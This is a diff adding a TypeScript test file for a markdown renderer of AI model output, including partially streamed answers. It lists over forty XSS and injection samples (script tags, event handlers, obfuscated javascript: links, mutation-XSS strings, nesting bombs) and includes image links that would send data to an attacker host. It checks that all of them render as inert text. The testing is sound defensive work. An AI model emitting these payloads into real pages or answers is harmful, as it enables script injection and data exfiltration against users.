@@ -1,0 +1,135 @@
+import { expect, test } from 'vitest';
+import { type Block, type Inline, readMarkdown } from './read-markdown.ts';
+
+const all = (blocks: readonly Block[]): (Block | Inline)[] => blocks.flatMap((block) => [block, ...insideOf(block)]);
+function insideOf(block: Block): (Block | Inline)[] {
+  if (block.kind === 'list') return block.items.flatMap(all);
+  if (block.kind === 'quote') return all(block.inside);
+  return 'inside' in block ? block.inside.flatMap(allInline) : [];
+}
+const allInline = (inline: Inline): Inline[] => [
+  inline,
+  ...('inside' in inline ? inline.inside.flatMap(allInline) : []),
+];
+const words = (text: string, isOpen = false) =>
+  all(readMarkdown(text, isOpen))
+    .map((part) => ('text' in part ? part.text : ''))
+    .join('');
+
+/** What a model, or whoever talks through it, may send to reach out of the text. */
+const hostile = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<IMG SRC="javascript:alert(1)">',
+  '<svg/onload=alert(1)>',
+  '<iframe src="https://evil.example"></iframe>',
+  '<a href="javascript:alert(1)">press</a>',
+  '<style>body{display:none}</style>',
+  '<form action="https://evil.example"><input name=p></form>',
+  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
+  '<!--<img src="--><img src=x onerror=alert(1)>',
+  '<![CDATA[<script>alert(1)</script>]]>',
+  '<details open ontoggle=alert(1)>',
+  '![](https://evil.example/?q=secret)',
+  '![alt][ref]\n\n[ref]: https://evil.example/pixel.png',
+  '[![inner](https://evil.example/a.png)](https://evil.example)',
+  '[press](javascript:alert(1))',
+  '[press](JaVaScRiPt:alert(1))',
+  '[press](java\tscript:alert(1))',
+  '[press](&#106;avascript:alert(1))',
+  '[press](&#x6A;avascript&colon;alert(1))',
+  '[press](data:text/html,<script>alert(1)</script>)',
+  '[press](vbscript:msgbox(1))',
+  '[press](file:///etc/passwd)',
+  '[press](blob:https://evil.example/1)',
+  '[press](intent://scan/#Intent;end)',
+  '[press](tel:+15550142)',
+  '[press](//evil.example)',
+  '[press](/api/auth/logout)',
+  '[press](https://northbeam.example@evil.example)',
+  '[press][ref]\n\n[ref]: javascript:alert(1)',
+  '<javascript:alert(1)>',
+  '<https://evil.example/"onmouseover="alert(1)>',
+  '`<img src=x onerror=alert(1)>`',
+  '```html\n<script>alert(1)</script>\n```',
+  '```\n</code></pre><script>alert(1)</script>\n```',
+  '| a | b |\n| - | - |\n| <img src=x onerror=alert(1)> | ![](https://evil.example) |',
+  '- [ ] <input type=checkbox onclick=alert(1)>',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '\\<script>alert(1)\\</script>',
+  '# <img src=x onerror=alert(1)>',
+  '> > > <script>alert(1)</script>',
+  `${'['.repeat(5_000)}a${']'.repeat(5_000)}`,
+  `${'> '.repeat(500)}deep`,
+  `${'*'.repeat(4_000)}a`,
+];
+
+test.each(hostile)('%s stays text: no image, no link but to a page', (sample) => {
+  for (const isOpen of [false, true]) {
+    for (const part of all(readMarkdown(sample, isOpen))) {
+      expect([
+        'text',
+        'strong',
+        'em',
+        'code',
+        'link',
+        'break',
+        'paragraph',
+        'heading',
+        'list',
+        'quote',
+        'rule',
+      ]).toContain(part.kind);
+      if (part.kind === 'link') expect(part.href).toMatch(/^https?:\/\/(?:[^@/]*)(?:\/|$)/);
+    }
+  }
+});
+
+test('there are forty of them and more', () => {
+  expect(new Set(hostile).size).toBeGreaterThanOrEqual(40);
+});
+
+test('paragraphs, bold, lists, headings and a link to a page are what they are', () => {
+  expect(
+    readMarkdown('### Start\n\nCall **ten** people.\n\n1. Today\n2. Tomorrow\n\n[more](https://example.com/a)'),
+  ).toEqual([
+    { kind: 'heading', inside: [{ kind: 'text', text: 'Start' }] },
+    {
+      kind: 'paragraph',
+      inside: [
+        { kind: 'text', text: 'Call ' },
+        { kind: 'strong', inside: [{ kind: 'text', text: 'ten' }] },
+        { kind: 'text', text: ' people.' },
+      ],
+    },
+    {
+      kind: 'list',
+      start: 1,
+      items: ['Today', 'Tomorrow'].map((text) => [{ kind: 'paragraph', inside: [{ kind: 'text', text }] }]),
+    },
+    {
+      kind: 'paragraph',
+      inside: [{ kind: 'link', href: 'https://example.com/a', inside: [{ kind: 'text', text: 'more' }] }],
+    },
+  ]);
+});
+
+test('signs that are no marks are shown as they were typed', () => {
+  expect(words('Fish & chips < $5 "today" it\'s 2 * 3')).toBe('Fish & chips < $5 "today" it\'s 2 * 3');
+  expect(words('<b>bold</b>')).toBe('<b>bold</b>');
+});
+
+test('an answer that is still being written never shows half a mark', () => {
+  const whole =
+    'Call **ten people** today, *quietly*, with `a list`:\n\n- **One** thing\n- see [this](https://example.com)';
+  for (let length = 1; length <= whole.length; length += 1) {
+    expect(words(whole.slice(0, length), true), whole.slice(0, length)).not.toMatch(/[*`[\]]|https/);
+  }
+  expect(words(whole, true)).toBe('Call ten people today, quietly, with a list:One thingsee this');
+});
+
+test('no word of an open text is lost but a mark that nothing follows yet', () => {
+  expect(words('Ten percent of 5 * 20 is', true)).toBe('Ten percent of 5 * 20 is');
+  expect(words('Call **', true)).toBe('Call');
+  expect(words('```\na = 1', true)).toBe('a = 1');
+});
